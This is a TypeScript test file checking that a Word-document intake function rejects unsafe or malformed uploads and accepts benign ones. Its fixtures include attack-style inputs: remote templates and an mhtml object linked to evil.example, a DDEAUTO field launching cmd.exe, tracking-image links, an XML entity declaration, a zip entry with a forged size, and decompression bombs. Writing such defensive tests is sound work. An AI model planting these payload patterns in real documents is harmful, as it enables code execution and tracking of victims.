/** What is no document to read, or would do harm, is refused with its reason; whatever is sent, nothing throws. */
import { describe, expect, it } from 'vitest';
import { answerTask } from '../../documents/answer-task.js';
import { field, makeDocx, paragraph, relationships, zipOf } from './support/docx.js';

async function faultOf(content: Uint8Array, name?: string): Promise<string> {
  const answer = await answerTask({ task: 'text', content: Uint8Array.from(content), name });
  return answer.ok ? 'none' : answer.fault.kind;
}

const body = paragraph('当社は人権を尊重します。');
const docx = makeDocx({ body });
const text = Buffer.from('当社は人権を尊重します。');
const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const HELD = 'application/vnd.openxmlformats-officedocument.wordprocessingml';
const ole = (stream: string) =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(stream, 'utf16le')]);
const inside = (path: string, content: string | Uint8Array) => makeDocx({ body, parts: { [path]: content } });
const linked = (kind: string, target: string) => makeDocx({ body, relationships: [[kind, target, true]] });

/** The archive with an entry that declares a size of its own. */
function lying(archive: Uint8Array, entry: string, declared: number): Uint8Array {
  const content = Buffer.from(archive);
  const headers = [
    { signature: '504b0304', size: 22, name: 30 },
    { signature: '504b0102', size: 24, name: 46 },
  ];
  for (const { name, signature, size } of headers) {
    const header = Buffer.from(signature, 'hex');
    const names = (at: number) => content.toString('latin1', at + name, at + name + entry.length) === entry;
    let at = content.indexOf(header);
    while (!names(at)) at = content.indexOf(header, at + 4);
    content.writeUInt32LE(declared, at + size);
  }
  return content;
}

const zeros = Buffer.alloc(64 * 1024 * 1024);

const refused: readonly (readonly [what: string, fault: string, content: () => Uint8Array, name?: string])[] = [
  ['a picture', 'wrong_type', () => Buffer.from('89504e470d0a1a0a0000', 'hex')],
  ['bytes of no kind', 'wrong_type', () => Buffer.from([0, 1, 2, 3, 250, 251])],
  ['RTF, which is written in letters', 'wrong_type', () => Buffer.from('{\\rtf1\\ansi policy}')],
  ['a web page', 'wrong_type', () => Buffer.from('<!DOCTYPE html><p>policy</p>')],
  ['a flat document of LibreOffice', 'wrong_type', () => Buffer.from('<?xml version="1.0"?><office:document/>')],
  ['a workbook', 'wrong_type', () => zipOf({ '[Content_Types].xml': '<Types/>', 'xl/workbook.xml': '<workbook/>' })],
  ['any other archive', 'wrong_type', () => zipOf({ 'policy.docx': docx })],
  [
    'a document of OpenDocument',
    'wrong_type',
    () => zipOf({ mimetype: 'application/vnd.oasis.opendocument.text', 'content.xml': '<a/>' }),
  ],
  ['a template', 'wrong_type', () => makeDocx({ body, documentType: `${HELD}.template.main+xml` })],
  ['a Word document that is called a PDF', 'wrong_type', () => docx, 'policy.pdf'],
  ['a Word document that is called a text', 'wrong_type', () => docx, 'policy.txt'],
  ['a text that is called a Word document', 'wrong_type', () => text, 'policy.docx'],
  ['a text that is called a program', 'wrong_type', () => text, 'policy.exe'],
  ['a Word document that is called an old one', 'wrong_type', () => docx, '人権方針.DOC'],
  ['an old Word document', 'old_word', () => ole('WordDocument'), 'policy.doc'],
  ['an old workbook', 'wrong_type', () => ole('Workbook')],
  ['a document with a password', 'encrypted', () => ole('EncryptedPackage'), 'policy.docx'],
  ['a document with macros', 'macros', () => inside('word/vbaProject.bin', 'x')],
  [
    'a document with macros that is called one without',
    'macros',
    () => makeDocx({ body, documentType: 'application/vnd.ms-word.document.macroEnabled.main+xml' }),
    'policy.docx',
  ],
  ['macros under another path', 'macros', () => inside('word/other/vbaProject2.bin', 'x')],
  ['a template from an address', 'links_elsewhere', () => linked('attachedTemplate', 'https://evil.example/t.dotm')],
  ['a template from a server', 'links_elsewhere', () => linked('attachedTemplate', 'file://///server/share/t.dotx')],
  ['a linked picture', 'links_elsewhere', () => linked('image', 'http://track.example/p.png')],
  [
    'a linked picture in another machine’s folder',
    'links_elsewhere',
    () => linked('image', '\\\\server\\share\\p.png'),
  ],
  ['a linked object', 'links_elsewhere', () => linked('oleObject', 'mhtml:https://evil.example/x.html!x')],
  ['a linked part', 'links_elsewhere', () => linked('subDocument', 'file:///C:/part.docx')],
  [
    'a link in another part than the document',
    'links_elsewhere',
    () =>
      inside(
        'word/_rels/settings.xml.rels',
        relationships([[`${OFFICE}/attachedTemplate`, 'http://evil.example/t.dotm', true]]),
      ),
  ],
  [
    'a field that starts a program',
    'links_elsewhere',
    () => makeDocx({ body: paragraph(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"', '')) }),
  ],
  [
    'a field that fetches a picture',
    'links_elsewhere',
    () => makeDocx({ body: paragraph(field('INCLUDEPICTURE "http://track.example/p.png" \\d', '')) }),
  ],
  [
    'a field that reads another machine’s file',
    'links_elsewhere',
    () =>
      makeDocx({
        body: paragraph('<w:fldSimple w:instr="INCLUDETEXT &quot;\\\\\\\\server\\\\share\\\\a.docx&quot;"/>'),
      }),
  ],
  ['a document type of its own', 'damaged', () => makeDocx({ body, prologue: '<!DOCTYPE a [<!ENTITY b "c">]>' })],
  ['an entity of its own', 'damaged', () => makeDocx({ body: '<w:p><w:r><w:t>&b;</w:t></w:r></w:p>' })],
  ['tags that do not close', 'damaged', () => makeDocx({ body: '<w:p>' })],
  ['tags in tags in tags', 'damaged', () => makeDocx({ body: `${'<w:r>'.repeat(20_000)}${'</w:r>'.repeat(20_000)}` })],
  ['half a document', 'damaged', () => docx.subarray(0, docx.length / 2)],
  ['an archive without its list of types', 'damaged', () => zipOf({ 'word/document.xml': '<a/>' })],
  [
    'a part that unpacks to more than anybody writes',
    'too_large',
    () => makeDocx({ body: `<w:p/>${' '.repeat(40 * 1024 * 1024)}` }),
  ],
  [
    'pictures that unpack to more than anybody has',
    'too_large',
    () => makeDocx({ body, parts: Object.fromEntries([1, 2, 3, 4, 5].map((at) => [`word/media/${at}.bmp`, zeros])) }),
  ],
  [
    'a picture that says it is small',
    'damaged',
    () => lying(inside('word/media/1.png', zeros), 'word/media/1.png', 1000),
  ],
  ['more text than anybody reads', 'too_large', () => makeDocx({ body: paragraph('あ'.repeat(5_000_001)) })],
  ['a text with as much', 'too_large', () => Buffer.from(`${'a'.repeat(5_000_001)}`)],
  ['a document that says nothing', 'empty', () => makeDocx({ body: paragraph('') })],
  ['a text of spaces', 'empty', () => Buffer.from(' \n\u3000\n')],
];

describe('refuses', () => {
  const each = refused.map(([what, fault, content, name]) => ({ what, fault, content, name }));
  it.each(each)('$what', async ({ content, fault, name }) => {
    expect(await faultOf(content(), name)).toBe(fault);
  });
});

const read: readonly (readonly [what: string, content: () => Uint8Array, name?: string])[] = [
  ['a document without a name', () => docx],
  ['a name with a point in it', () => docx, '人権方針.第2版'],
  ['an ending in capitals', () => docx, 'POLICY.DOCX'],
  ['links that somebody has to press', () => linked('hyperlink', 'https://example.jp/')],
  [
    'the name of the template that it was made from',
    () => linked('attachedTemplate', 'file:///C:\\Users\\sato\\Templates\\policy.dotx'),
  ],
  [
    'a picture that was copied from the web with its address gone',
    () => makeDocx({ body: body + paragraph(field('INCLUDEPICTURE "C:\\\\pictures\\\\a.png"', '')) }),
  ],
  ['Markdown that is called a text', () => Buffer.from('# 方針\n'), 'policy.txt'],
  ['a text with commas', () => Buffer.from('We respect, and protect,\nhuman rights, always.'), 'policy.txt'],
  ['a text that begins with a bracket', () => Buffer.from('[案] 人権方針'), 'policy.txt'],
  [
    'XML in UTF-16',
    () =>
      makeDocx({
        body,
        parts: { 'word/numbering.xml': Buffer.from('\ufeff<a/>', 'utf16le') },
        relationships: [['numbering', 'numbering.xml', false]],
      }),
  ],
];

describe('does not refuse', () => {
  const each = read.map(([what, content, name]) => ({ what, content, name }));
  it.each(each)('$what', async ({ content, name }) => {
    expect(await faultOf(content(), name)).toBe('none');
  });
});
